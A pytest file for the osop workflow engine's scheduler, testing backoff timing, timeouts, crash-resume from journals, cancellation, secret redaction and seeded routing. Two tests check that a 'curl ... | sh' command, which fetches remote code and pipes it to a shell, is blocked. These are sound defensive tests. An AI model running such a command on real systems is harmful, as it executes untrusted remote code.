"""Scheduler behaviour that conformance cases cannot show: clock, durability, cancellation."""

from __future__ import annotations

import asyncio
import itertools
import json
import shutil
from pathlib import Path

import pytest
from engine_helpers import Runner, cli, statuses

from osop.engine import (
    RunOptions,
    RunResult,
    RunStore,
    VirtualClock,
    load_run_state,
    materialise_record,
    resume_run,
    start_run,
)
from osop.engine.graph import Topology
from osop.format.api import load_workflow
from osop.format.workflow import workflow_from_dict
from osop.security import SecretStore


def test_backoff_delays_follow_the_policy_in_virtual_time(runner: Runner) -> None:
    clock = VirtualClock()
    result = runner.run(
        {
            "id": "backoff",
            "nodes": [
                cli(
                    "flaky",
                    retry={
                        "max_attempts": 4,
                        "backoff": {"type": "exponential", "initial_delay": 2, "multiplier": 3},
                    },
                    **{"x-simulate": {"fail_attempts": 3}},
                )
            ],
            "edges": [],
        },
        clock=clock,
    )
    assert result.status == "COMPLETED"
    assert [r.attempt for r in result.record.node_records] == [1, 2, 3, 4]
    assert [s for s in clock.sleeps if s > 0] == [2.0, 6.0, 18.0]
    assert clock.monotonic() == pytest.approx(26.0)


def test_node_timeout_in_virtual_time_records_the_duration(runner: Runner) -> None:
    result = runner.run(
        {
            "id": "slow",
            "nodes": [cli("slow", timeout_sec=30, **{"x-simulate": {"duration_ms": 3_600_000}})],
            "edges": [],
        }
    )
    record = result.record.node_records[0]
    assert (result.status, record.status, record.error and record.error.code) == (
        "FAILED",
        "TIMED_OUT",
        "TIMEOUT",
    )
    assert record.duration_ms == pytest.approx(30_000.0)


def test_parallel_branches_overlap(runner: Runner) -> None:
    clock = VirtualClock()
    result = runner.run(
        {
            "id": "fan",
            "nodes": [cli("a")]
            + [cli(f"b{i}", **{"x-simulate": {"duration_ms": 1000}}) for i in range(5)]
            + [cli("join")],
            "edges": [{"from": "a", "to": f"b{i}", "mode": "parallel"} for i in range(5)]
            + [{"from": f"b{i}", "to": "join"} for i in range(5)],
        },
        clock=clock,
    )
    assert result.status == "COMPLETED"
    assert clock.monotonic() == pytest.approx(1.0)  # five 1 s branches in 1 s, not 5 s


RETRY_DIAMOND = {
    "id": "crash",
    "nodes": [
        cli("a"),
        cli("b"),
        cli("c"),
        cli(
            "d",
            retry={"max_attempts": 2, "backoff": {"initial_delay": 1}},
            **{"x-simulate": {"fail_attempts": 1}},
        ),
    ],
    "edges": [
        {"from": "a", "to": "b", "mode": "parallel"},
        {"from": "a", "to": "c", "mode": "parallel"},
        {"from": "b", "to": "d"},
        {"from": "c", "to": "d"},
    ],
}
LOOPS = {
    "id": "loops",
    "nodes": [
        cli("items", **{"x-simulate": {"outputs": {"list": [1, 2, 3]}}}),
        cli("each"),
        cli("body"),
        cli("check"),
        cli("end"),
    ],
    "edges": [
        {
            "from": "items",
            "to": "each",
            "mode": "loop",
            "for_each": "outputs.items.list",
            "iterator_var": "x",
        },
        {"from": "each", "to": "body"},
        {"from": "body", "to": "check"},
        {"from": "check", "to": "body", "mode": "loop", "when": "true", "max_iterations": 3},
        {"from": "check", "to": "end"},
    ],
}


NESTED = {
    "id": "nested",
    "nodes": [cli("a"), cli("b"), cli("c"), cli("d"), cli("end")],
    "edges": [
        {"from": "a", "to": "b"},
        {"from": "b", "to": "c"},
        {"from": "c", "to": "b", "mode": "loop", "when": "true", "max_iterations": 2},
        {"from": "c", "to": "d"},
        {"from": "d", "to": "a", "mode": "loop", "when": "true", "max_iterations": 2},
        {"from": "d", "to": "end"},
    ],
}


CHILD = (
    "osop_version: '1.1'\nid: child\nname: Child\n"
    "nodes: [{id: c1, type: cli, name: C1}, {id: c2, type: cli, name: C2}]\n"
    "edges: [{from: c1, to: c2}]\n"
)
WITH_CHILD = {
    "id": "parent",
    "imports": ["./child.osop.yaml"],
    "nodes": [
        cli("a"),
        {"id": "sub", "type": "system", "name": "Sub", "workflow_ref": "child"},
        cli("b"),
    ],
    "edges": [{"from": "a", "to": "sub"}, {"from": "sub", "to": "b"}],
}


@pytest.mark.parametrize(
    "data",
    [RETRY_DIAMOND, LOOPS, NESTED, WITH_CHILD],
    ids=["retry-diamond", "loops", "nested", "sub-workflow"],
)
def test_every_crash_point_resumes_to_the_same_end(
    runner: Runner, tmp_path: Path, data: dict[str, object]
) -> None:
    """Truncate the journal after every entry (a crash there) and resume: same final trace."""
    (tmp_path / "child.osop.yaml").write_text(CHILD)
    full = runner.run(data)
    assert full.status == "COMPLETED"
    assert full.handle is not None
    lines = full.handle.journal_path.read_text().splitlines()
    assert len(lines) > 8  # run, a start and end (its done folded in) per node, finished
    resume_from_every_cut(runner, tmp_path, full, lines)


def resume_from_every_cut(
    runner: Runner, tmp_path: Path, full: RunResult, lines: list[str]
) -> None:
    """Resume copies of ``full``'s run whose journal is cut after each entry of
    ``lines``: each ends as ``full`` did, every node completed exactly as often."""
    expected = sorted(
        (r.node_id, r.iteration) for r in full.record.node_records if r.status == "COMPLETED"
    )
    for cut in range(1, len(lines) - 1):
        if json.loads(lines[cut - 1])["t"] == "finished":
            continue
        store = RunStore(tmp_path / f"cut{cut}")
        shutil.copytree(runner.store.root, store.root)  # child runs too
        copy = store.runs / full.run_id
        (copy / "journal.jsonl").write_text("\n".join(lines[:cut]) + "\n")
        result = asyncio.run(
            resume_run(
                full.run_id,
                store=store,
                options=RunOptions(clock=VirtualClock(), workdir=tmp_path),
            )
        )
        assert result.status == "COMPLETED", cut
        assert statuses(result) == statuses(full), cut
        # Every node (and loop iteration) completed exactly as often as without the crash.
        got = sorted(
            (r.node_id, r.iteration) for r in result.record.node_records if r.status == "COMPLETED"
        )
        assert got == expected, f"crash after journal entry {cut}"


def as_older_journal(lines: list[str]) -> list[str]:
    """The journal as osop wrote it before ends carried their node's done: every
    folded ``done`` on a line of its own after its end, numbered in turn."""
    out: list[dict[str, object]] = []
    for line in lines:
        entry = json.loads(line)
        done = entry.pop("done", None)
        entry.pop("v", None)
        out.append(entry)
        if done is not None:
            out.append({"t": "done", "node": entry["node"], "status": entry["status"]})
            if "at" in entry:
                out[-1]["at"] = entry["at"]
            out[-1].update(done)
    for seq, entry in enumerate(out, 1):
        entry["seq"] = seq
    return [json.dumps(e, separators=(",", ":")) for e in out]


@pytest.mark.parametrize("data", [RETRY_DIAMOND, LOOPS], ids=["retry-diamond", "loops"])
def test_an_older_journal_with_done_apart_resumes_from_every_crash_point(
    runner: Runner, tmp_path: Path, data: dict[str, object]
) -> None:
    """Journals written with a separate done after each end (two fsyncs per node)
    still resume, cut after any entry, to the same end."""
    full = runner.run(data)
    assert full.status == "COMPLETED" and full.handle is not None
    lines = full.handle.journal_path.read_text().splitlines()
    older = as_older_journal(lines)
    assert any('"done"' in line for line in lines)
    assert len(older) > len(lines) and not any('"done":{' in line for line in older)
    resume_from_every_cut(runner, tmp_path, full, older)


def test_torn_journal_tail_is_ignored(runner: Runner) -> None:
    result = runner.run(
        {"id": "torn", "nodes": [cli("a"), cli("b")], "edges": [{"from": "a", "to": "b"}]}
    )
    assert result.handle is not None
    journal = result.handle.journal_path
    lines = journal.read_text().splitlines()
    journal.write_text("\n".join(lines[:3]) + "\n" + lines[3][:10])
    state = load_run_state(result.handle)
    assert state.seq == 3
    record = materialise_record(result.handle, state)
    assert record.status == "RUNNING"


def test_cancelling_the_task_leaves_a_cancelled_record(runner: Runner, tmp_path: Path) -> None:
    path = runner.write(
        {
            "id": "cancel",
            "nodes": [cli("a", **{"x-simulate": {"duration_ms": 10_000}}), cli("b")],
            "edges": [{"from": "a", "to": "b"}],
        }
    )
    workflow = load_workflow(path)
    store = RunStore(tmp_path / ".osop")

    async def main() -> str:
        task = asyncio.ensure_future(
            start_run(
                workflow,
                source=path.read_bytes(),
                store=store,
                options=RunOptions(mode="simulated", workdir=tmp_path),
            )
        )
        await asyncio.sleep(0.2)
        task.cancel()
        result = await task
        return result.status

    assert asyncio.run(main()) == "CANCELLED"
    handle = next(store.iter_runs())
    record = materialise_record(handle)
    assert record.status == "CANCELLED"
    assert {r.node_id: r.status for r in record.node_records} == {"a": "CANCELLED", "b": "SKIPPED"}


def test_secret_from_the_environment_is_redacted(runner: Runner) -> None:
    secrets = SecretStore(environ={"OSOP_SECRET_TOKEN": "hunter2-very-secret"})
    result = runner.run(
        {
            "id": "secret",
            "nodes": [
                {
                    "id": "show",
                    "type": "cli",
                    "name": "Show",
                    "runtime": {"command": "echo ${secrets.TOKEN}"},
                }
            ],
            "edges": [],
        },
        mode="live",
        clock=None or __import__("osop.engine", fromlist=["SystemClock"]).SystemClock(),
        secrets=secrets,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert result.status == "COMPLETED"
    assert result.record.node_records[0].outputs == {"stdout": "***", "stderr": "", "exit_code": 0}
    assert result.handle is not None
    for path in result.handle.path.iterdir():
        assert "hunter2-very-secret" not in path.read_text()


def test_a_secret_in_a_failure_message_reaches_no_file(runner: Runner) -> None:
    from osop.engine import SystemClock

    result = runner.run(
        {
            "id": "secret-failure",
            "nodes": [cli("show", runtime={"command": "echo ${secrets.TOKEN} >&2; exit 3"})],
            "edges": [],
        },
        mode="live",
        clock=SystemClock(),
        secrets=SecretStore(environ={"OSOP_SECRET_TOKEN": "hunter2-very-secret"}),
        env={"PATH": "/usr/bin:/bin"},
    )
    assert result.status == "FAILED"
    assert result.handle is not None
    for path in result.handle.path.iterdir():
        assert "hunter2-very-secret" not in path.read_text(), path.name


def test_missing_secret_fails_live_naming_it(runner: Runner) -> None:
    from osop.engine import SystemClock

    result = runner.run(
        {
            "id": "nosecret",
            "nodes": [cli("show", runtime={"command": "echo ${secrets.NOPE}"})],
            "edges": [],
        },
        mode="live",
        clock=SystemClock(),
        secrets=SecretStore(environ={}),
    )
    error = result.record.node_records[0].error
    assert error is not None and error.code == "MISSING_REFERENCE" and "NOPE" in error.message


def test_weighted_choice_is_reproducible_from_the_seed(runner: Runner) -> None:
    data = {
        "id": "ab",
        "nodes": [cli("split"), cli("a"), cli("b"), cli("c")],
        "edges": [
            {"from": "split", "to": t, "mode": "weighted", "weight": 1} for t in ("a", "b", "c")
        ],
    }
    picks = {
        seed: [n for n, s in statuses(runner.run(data, seed=seed)).items() if s == "COMPLETED"]
        for seed in range(12)
    }
    assert all(len(p) == 2 for p in picks.values())  # split + exactly one branch
    assert len({p[1] for p in picks.values()}) > 1  # different seeds, different routes
    again = runner.run(data, seed=5)
    assert [n for n, s in statuses(again).items() if s == "COMPLETED"] == picks[5]
    assert again.record.runtime is not None and again.record.runtime["seed"] == 5


def test_in_memory_run_without_a_store(runner: Runner) -> None:
    result = runner.run({"id": "mem", "nodes": [cli("a")], "edges": []}, store=False)
    assert result.status == "COMPLETED" and result.handle is None


def test_required_input_missing_is_an_error(runner: Runner) -> None:
    from osop.errors import ExecutionError

    with pytest.raises(ExecutionError, match=r"input 'who' is missing \(required\)"):
        runner.run(
            {
                "id": "req",
                "inputs": [{"name": "who", "type": "string", "required": True}],
                "nodes": [cli("a")],
                "edges": [],
            }
        )


def test_topology_finds_loop_bodies_and_exits() -> None:
    wf = workflow_from_dict(
        {
            "id": "t",
            "nodes": [{"id": n, "type": "cli"} for n in ("start", "fetch", "check", "done")],
            "edges": [
                {"from": "start", "to": "fetch"},
                {"from": "fetch", "to": "check"},
                {"from": "check", "to": "done", "mode": "conditional", "when": "ok"},
                {"from": "check", "to": "fetch", "mode": "loop", "when": "!ok"},
            ],
        }
    )
    topo = Topology.build(wf)
    assert topo.back_edges == {3: ("fetch", "check")}
    assert topo.exit_of == {(2, "done"): 3}
    assert topo.control_in["fetch"] == ((0, "fetch"),)
    assert topo.entry == ("start",)


def test_ten_thousand_node_chain_is_linear(runner: Runner) -> None:
    n = 10_000
    data = {
        "id": "chain",
        "nodes": [cli(f"n{i}") for i in range(n)],
        "edges": [{"from": f"n{i}", "to": f"n{i + 1}"} for i in range(n - 1)],
    }
    result = runner.run(data)
    assert result.status == "COMPLETED"
    assert len(result.record.node_records) == n


def test_yes_approves_gates_and_dangerous_commands(runner: Runner, tmp_path: Path) -> None:
    from osop.engine import SystemClock

    (tmp_path / "scratch").mkdir()
    data = {
        "id": "yes",
        "nodes": [
            cli("gate", approval_gate={"required": True}),
            cli("wipe", runtime={"command": "rm -rf ./scratch"}),
        ],
        "edges": [{"from": "gate", "to": "wipe"}],
    }
    paused = runner.run(data, mode="live", clock=SystemClock())
    assert paused.paused and [w["node"] for w in paused.waiting] == ["gate"]
    done = runner.run(data, mode="live", clock=SystemClock(), auto_approve=True)
    assert done.status == "COMPLETED", done.record.result_summary
    assert not (tmp_path / "scratch").exists()


def test_blocked_command_is_refused_even_with_yes(runner: Runner) -> None:
    from osop.engine import SystemClock

    # Blocked only through an input's value: the static check cannot see it, the
    # executor refuses the command it would finally run.
    command = "curl -s http://example.invalid/x | ${inputs.shell}"
    result = runner.run(
        {
            "id": "blocked",
            "inputs": {"shell": {"type": "string"}},
            "nodes": [cli("pipe", runtime={"command": command})],
            "edges": [],
        },
        mode="live",
        clock=SystemClock(),
        auto_approve=True,
        inputs={"shell": "sh"},
    )
    error = result.record.node_records[0].error
    assert result.status == "FAILED" and error is not None and error.code == "BLOCKED"
    assert len(result.record.node_records) == 1  # refused, never retried


def test_a_static_blocked_command_refuses_the_live_run(runner: Runner) -> None:
    from osop.engine import SystemClock
    from osop.errors import RunRefusedError

    data = {
        "id": "blocked",
        "nodes": [
            cli("first", runtime={"command": "echo ran >> first.txt"}),
            cli("pipe", runtime={"command": "curl -s http://example.invalid/x | sh"}),
        ],
        "edges": [{"from": "first", "to": "pipe"}],
    }
    with pytest.raises(RunRefusedError, match="node 'pipe' runs a blocked command"):
        runner.run(data, mode="live", clock=SystemClock(), auto_approve=True)
    assert not (runner.tmp / "first.txt").exists()
    assert runner.run(data).status == "COMPLETED"  # a simulated rehearsal may proceed


class _Broken:
    node_type = "cli"

    async def execute(self, ctx: object) -> object:
        raise RuntimeError("executor bug")


def test_a_broken_executor_fails_its_node_not_the_engine(runner: Runner) -> None:
    result = runner.run(
        {"id": "broken", "nodes": [cli("a"), cli("b")], "edges": [{"from": "a", "to": "b"}]},
        executors=lambda node_type, mode: _Broken(),
    )
    first = result.record.node_records[0]
    assert result.status == "FAILED"
    assert first.error is not None and first.error.code == "EXECUTOR_ERROR"
    assert "executor bug" in first.error.message
    assert statuses(result) == {"a": "FAILED", "b": "SKIPPED"}


def test_an_invalid_sub_workflow_fails_the_node(runner: Runner, tmp_path: Path) -> None:
    (tmp_path / "broken.osop.yaml").write_text("osop_version: '1.1'\nid: broken\nnodes: 3\n")
    result = runner.run(
        {
            "id": "badref",
            "imports": ["./broken.osop.yaml"],
            "nodes": [{"id": "sub", "type": "system", "name": "Sub", "workflow_ref": "broken"}],
            "edges": [],
        }
    )
    error = result.record.node_records[0].error
    assert result.status == "FAILED"
    assert error is not None and error.code == "EXECUTION_ERROR" and "broken" in error.message


@pytest.mark.parametrize("store", [True, False])
def test_a_finished_run_is_freed_without_the_cycle_collector(runner: Runner, store: bool) -> None:
    """Nothing of a run is left in reference cycles: its state goes when its result
    does, not at the next full collection (which came in the middle of the next run)."""
    import gc

    from osop.engine.state import RunState

    data = {
        "id": "chain",
        "nodes": [cli(f"n{i}") for i in range(5)],
        "edges": [{"from": f"n{i}", "to": f"n{i + 1}"} for i in range(4)],
    }
    runner.run(data, store=store)  # imports and caches first
    gc.collect()
    enabled = gc.isenabled()
    gc.disable()
    try:
        before = sum(1 for o in gc.get_objects() if type(o) is RunState)
        result = runner.run(data, store=store)
        assert result.status == "COMPLETED"
        del result
        after = sum(1 for o in gc.get_objects() if type(o) is RunState)
    finally:
        if enabled:
            gc.enable()
    assert after == before


def test_plainly_simulated_attempts_journal_what_the_simulator_would(runner: Runner) -> None:
    """Attempts of the built-in simulator that it would run plainly are reported without
    calling it (no context is built): the journal says what calling it says."""
    from osop.executors.simulator import SimulatedExecutor

    class Called(SimulatedExecutor):
        """The simulator itself, always called (the host only skips the exact class)."""

    workflow = {
        "id": "plain",
        "nodes": [
            cli("a", outputs=["x", {"name": "n", "type": "integer"}]),
            cli("b", timeout_sec=5),
            cli("c", **{"x-simulate": {"fail_attempts": 1}}, retry={"max_attempts": 2}),
            {"id": "d", "type": "human", "name": "d"},
            cli("e"),
            cli("f", outputs={"ok": {"type": "boolean"}}),
        ],
        "edges": [
            {"from": "a", "to": "b"},
            {"from": "b", "to": "c"},
            {"from": "c", "to": "d"},
            {"from": "d", "to": "e", "mode": "parallel"},
            {"from": "d", "to": "f", "mode": "parallel"},
        ],
    }

    def journal(result: RunResult) -> list[dict[str, object]]:
        lines = (runner.store.runs / result.run_id / "journal.jsonl").read_text().splitlines()
        timeless = []
        for line in lines:
            entry = json.loads(line)
            for key in ("at", "ended_at", "duration_ms", "run_id", "started_at", "id"):
                entry.pop(key, None)
            timeless.append(entry)
        return timeless

    plain = runner.run(workflow)
    called = runner.run(workflow, executors=lambda node_type, mode: Called())
    assert plain.status == called.status == "COMPLETED"
    assert journal(plain) == journal(called)
    assert [(r.node_id, r.outputs) for r in plain.record.node_records] == [
        (r.node_id, r.outputs) for r in called.record.node_records
    ]


def test_a_chain_lets_the_event_loop_turn_every_few_attempts(tmp_path: Path) -> None:
    """Attempts that follow one another with nothing else ready skip the loop's turn
    between them, but at most 15 in a row: timers, deliveries and Ctrl-C are heard."""
    from osop.engine import scheduler

    size = 200
    finished: list[int] = []
    seen: list[int] = []

    def progress(event: dict[str, object]) -> None:
        if event["event"] == "attempt_finished":
            finished.append(1)

    class Loop(asyncio.SelectorEventLoop):
        def _run_once(self) -> None:  # one turn: what had finished before it
            seen.append(len(finished))
            super()._run_once()  # type: ignore[misc]

    async def main() -> None:
        workflow = workflow_from_dict(
            {
                "id": "chain",
                "name": "chain",
                "nodes": [{"id": f"n{i}", "type": "cli"} for i in range(size)],
                "edges": [{"from": f"n{i}", "to": f"n{i + 1}"} for i in range(size - 1)],
            }
        )
        options = RunOptions(mode="simulated", seed=1, workdir=tmp_path, progress=progress)
        result = await start_run(workflow, store=RunStore(tmp_path), options=options)
        assert result.status == "COMPLETED"

    with asyncio.Runner(loop_factory=Loop) as runner:
        runner.run(main())
    assert len(finished) == size
    during = [n for n in seen if 0 < n < size]
    gaps = [b - a for a, b in itertools.pairwise(during)]
    assert max(gaps) <= scheduler._TURNS_SKIPPED + 1
    assert max(gaps) > 1  # turns were skipped
